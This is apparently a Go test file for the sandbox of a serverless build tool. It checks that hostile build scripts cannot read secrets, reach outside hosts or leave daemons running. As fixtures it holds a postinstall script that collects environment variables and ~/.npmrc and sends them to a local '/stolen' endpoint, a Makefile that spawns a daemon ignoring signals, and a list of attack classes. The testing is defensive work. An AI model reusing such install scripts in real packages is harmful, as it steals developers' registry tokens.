package test

import (
	"archive/zip"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/ebb-run/ebb/internal/sandbox/sandboxtest"
)

var buildsTable = flag.String("builds.table", "", "write the table of hostile scripts into this file")

// lines of the table, by the words that reports begin with.
var wrongs = []struct{ row, title, says string }{
	{"secrets", "keys and passwords", "~/.ssh, ~/.aws, ~/.npmrc and the like, and the machine's own, cannot be read."},
	{"files", "files of the machine, by name", "imports, links, source maps, dependencies and `${file()}` that name files of the home do not have ebb itself, which reads sources outside of the sandbox, carry them into a function."},
	{"environment", "secrets in the environment", "cloud credentials and tokens are in no variable, and not in the addresses of registries either."},
	{"processes", "other processes", "none but the build's own are to be seen, nor what they were started with."},
	{"neighbours", "other projects", "the home and the projects beside cannot be listed."},
	{"writes", "writes outside the project", "nothing outside is written to."},
	{"tampering", "the project's own files", "what a script changes in the project (package.json, serverless.yml, Git's hooks) is thrown away with the copy that it worked on."},
	{"bomb", "fork bomb", "processes that start without end meet a limit, and end with the build."},
	{"daemon", "daemons", "what a script leaves running in a session of its own ends with the step."},
	{"exfiltration", "exfiltration", "hosts that are no registries, this machine's own servers and the clouds' metadata are not connected to."},
	{"cache", "poisoned caches", "caches that other projects install from are not there while scripts run."},
	{"later steps", "programs for later steps", "what a script puts into node_modules/.bin is run in the same isolation, never outside."},
	{"left behind", "links and rights left behind", "links that lead out of the project, pipes and set-user-id programs are not brought back with what was built."},
}

// verdict is what the builders came to in one mode: by row, whether it was broken.
type verdict map[string]bool

// tabulate writes the table into its section of the page.
func tabulate(t *testing.T, modes []string, found map[string]verdict) {
	t.Helper()
	var b strings.Builder
	b.WriteString("## Builds\n\nThe same, of scripts that a build runs: ")
	for i, r := range builders {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString("a " + r.name)
	}
	b.WriteString(". Each\ntries everything, through `ebb up` or `ebb inspect`, with the real tools.\n\n| Hostile script | " + strings.Join(modes, " | ") + " |\n|---" + strings.Repeat("|---", len(modes)) + "|\n")
	for _, w := range wrongs {
		b.WriteString("| " + w.title + " |")
		for _, m := range modes {
			switch {
			case w.row == "bomb" && m == "rootless":
				b.WriteString(" no (a) |")
			case m == "plain" && w.row != "files":
				b.WriteString(" no (b) |")
			case found[m][w.row]:
				b.WriteString(" **FAILS** |")
			default:
				b.WriteString(" holds |")
			}
		}
		b.WriteString("\n")
	}
	b.WriteString("\na. without the rights to a cgroup of its own there is nothing to count processes\nb. builds are ordinary processes of ebb's user here; what of it harms nothing is tried, and seen to succeed\n\n")
	for _, w := range wrongs {
		b.WriteString("- **" + w.title + "**: " + w.says + "\n")
	}
	if err := sandboxtest.WriteSection(*buildsTable, "builds", b.String()); err != nil {
		t.Fatal(err)
	}
}

func TestBuilds_TheTableIsOnItsPage(t *testing.T) {
	t.Parallel()
	page, err := os.ReadFile("../docs/isolation.md")
	if err != nil {
		t.Fatal(err)
	}
	_, builds, _ := strings.Cut(string(page), "\n## Builds\n")
	for _, w := range wrongs {
		if !strings.Contains(builds, "\n| "+w.title+" | holds |") {
			t.Errorf("docs/isolation.md has no row %q that holds; run make isolation-table", w.title)
		}
	}
}

// registry is a private registry of npm packages: it wants a token.
type registry struct {
	*httptest.Server
	mu     sync.Mutex
	stolen []string // what scripts sent
	denied int
}

func newRegistry(t *testing.T, token string, scripts string, files map[string]string) *registry {
	t.Helper()
	files["package/package.json"] = fmt.Sprintf(`{"name":"private","version":"1.0.0","scripts":%s}`, scripts)
	tarball := packed(t, files)
	sum := sha512.Sum512([]byte(tarball))
	r := &registry{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		r.mu.Lock()
		defer r.mu.Unlock()
		switch {
		case strings.HasPrefix(q.URL.Path, "/stolen"):
			r.stolen = append(r.stolen, q.URL.RawQuery)
		case q.Header.Get("Authorization") != "Bearer "+token:
			r.denied++
			w.WriteHeader(http.StatusUnauthorized)
		case strings.HasSuffix(q.URL.Path, ".tgz"):
			_, _ = w.Write([]byte(tarball))
		default:
			_ = json.NewEncoder(w).Encode(map[string]any{"name": "private", "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": map[string]any{
				"name": "private", "version": "1.0.0", "hasInstallScript": true,
				"dist": map[string]string{"tarball": r.URL + "/private-1.0.0.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:])},
			}}})
		}
	}))
	t.Cleanup(r.Close)
	return r
}

func TestBuilds_CredentialsAreForFetchingAlone(t *testing.T) {
	t.Parallel()
	needIsolation(t)
	if _, err := exec.LookPath("npm"); err != nil {
		t.Skip("npm is not here")
	}
	s := newStage(t, "isolated", false, "out", map[string]string{
		"serverless.yml": oneNode, "h.js": "exports.f = async () => require('private')", "package.json": `{"name":"shop","version":"1.0.0","dependencies":{"private":"1.0.0"}}`,
	})
	r := newRegistry(t, s.canary, `{"postinstall":"node steal.js"}`, map[string]string{"package/index.js": "module.exports = 1", "package/steal.js": `
const fs = require('fs'), http = require('http'), os = require('os')
let all = JSON.stringify(process.env)
for (const f of [os.homedir() + '/.npmrc', process.env.npm_config_userconfig]) try { all += fs.readFileSync(f, 'utf8') } catch (e) {}
http.get(process.env.npm_config_registry + 'stolen?' + (all.includes('` + s.canary + `') ? 'token' : 'nothing'))
`})
	host := strings.TrimPrefix(r.URL, "http:")
	write(t, filepath.Join(s.home, ".npmrc"), "registry="+r.URL+"/\n"+host+"/:_authToken=${NPM_TOKEN}\n")
	said := s.up()
	r.mu.Lock()
	defer r.mu.Unlock()
	if fmt.Sprint(r.stolen) != "[nothing]" || r.denied != 0 {
		t.Errorf("the script sent %v; %d requests came without the token\n%s", r.stolen, r.denied, said)
	}
	if text := s.read("node_modules/private/index.js"); string(text) != "module.exports = 1" {
		t.Errorf("installed is %q", text)
	}
}

func TestBuilds_CancelEndsEverything(t *testing.T) {
	t.Parallel()
	needIsolation(t)
	if _, err := exec.LookPath("make"); err != nil {
		t.Skip("make is not here")
	}
	s := newStage(t, "isolated", false, "out", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: provided.al2023}\nfunctions: {f: {handler: bootstrap}}\n",
		"main.go":        "package main\n\nfunc main() {}\n", "go.mod": "module shop\n", "Makefile": "build:\n\tsetsid sleep $$(cat marker) & trap '' TERM INT; sleep $$(cat marker); echo bootstrap\n",
		"marker": "PLACE",
	})
	write(t, filepath.Join(s.project, "marker"), s.marker)
	cmd := s.command(t.Context(), "up", "--no-watch", "--listen", "127.0.0.1:0")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the Makefile's processes", func() bool { return len(processes(s.marker)) == 2 })
	if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	if left := processes(s.marker); len(left) > 0 {
		t.Errorf("left running: %v", left)
	}
	if jobs, _ := filepath.Glob(filepath.Join(s.project, ".ebb/build/jobs/job-*")); len(jobs) > 0 {
		t.Errorf("left in the project: %v", jobs)
	}
}

func TestBuilds_RequireIsolationRefusesWithoutIt(t *testing.T) {
	t.Parallel()
	s := newStage(t, "plain", false, "out", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: nodejs20.x}\nfunctions: {f: {handler: h.f, environment: {X: '${file(./x.js):x}'}}}\n", "h.js": "", "x.js": "module.exports = {x: 1}",
	})
	out, err := s.command(t.Context(), "inspect", "--require-isolation").CombinedOutput()
	if err == nil || !strings.Contains(string(out), "the project's tools cannot be isolated") {
		t.Errorf("got %v, %s", err, out)
	}
	out, err = s.command(t.Context(), "inspect").CombinedOutput()
	if err != nil || strings.Count(string(out), "builds are not isolated") != 1 {
		t.Errorf("got %v, %s", err, out)
	}
}

func TestBuilds_EgressIsTheOperatorsToWiden(t *testing.T) {
	t.Parallel()
	needIsolation(t)
	if _, err := exec.LookPath("make"); err != nil {
		t.Skip("make is not here")
	}
	s := newStage(t, "isolated", false, "out", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: provided.al2023}\nfunctions: {f: {handler: bootstrap, package: {artifact: out/f}}}\n",
		"main.go":        "package main\n\nfunc main() {}\n", "go.mod": "module shop\n",
		"Makefile": "build:\n\tmkdir -p out/f\n\tcp main.go out/f/bootstrap\n\tnode -e 'fetch(process.argv[1]).then(() => 1, () => 0).then((n) => console.log(n, process.env.MINE))' $$(cat url) > out/f/answer\n",
	})
	write(t, filepath.Join(s.project, "url"), s.server.URL)
	s.up()
	if got := string(s.read("out/f/answer")); got != "0 undefined\n" || s.hits.Load() != 0 {
		t.Errorf("got %q after %d requests", got, s.hits.Load())
	}
	if err := os.RemoveAll(filepath.Join(s.project, "out")); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(s.project, "main.go"), "package main\n\nfunc main() { println() }\n")
	s.flags = []string{"--build-egress", strings.TrimPrefix(s.server.URL, "http://"), "--build-env", "MINE"}
	s.env = []string{"MINE=yes"}
	s.up()
	if got := string(s.read("out/f/answer")); got != "1 yes\n" || s.hits.Load() != 1 {
		t.Errorf("widened: got %q after %d requests", got, s.hits.Load())
	}
}

func TestBuilds_FetchingTakesNothingOfTheProjectForPip(t *testing.T) {
	t.Parallel()
	needIsolation(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not here")
	}
	s := newStage(t, "isolated", false, "out", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: python3.11}\nfunctions: {f: {handler: h.f}}\n", "h.py": "import mine\ndef f(e, c): return mine.x\n", "requirements.txt": "mine==1\n",
		"pip.py": "import os\nprint('token', os.environ.get('PIP_INDEX_URL'))\nraise SystemExit(1)\n",
	})
	links := filepath.Join(s.dir, "wheels")
	file, err := os.Create(filepath.Join(s.dir, "wheel"))
	if err != nil {
		t.Fatal(err)
	}
	z := zip.NewWriter(file)
	for name, text := range map[string]string{
		"mine.py": "x = 5\n", "mine-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: mine\nVersion: 1\n", "mine-1.dist-info/RECORD": "",
		"mine-1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
	} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(z.Close(), file.Close(), os.Mkdir(links, 0o755), os.Rename(file.Name(), filepath.Join(links, "mine-1-py3-none-any.whl"))); err != nil {
		t.Fatal(err)
	}
	s.env = []string{"PIP_NO_INDEX=1", "PIP_FIND_LINKS=" + links}
	s.up()
	if got := string(s.read(".ebb/build/pip-*/mine.py")); got != "x = 5\n" {
		t.Errorf("got %q", got)
	}
}
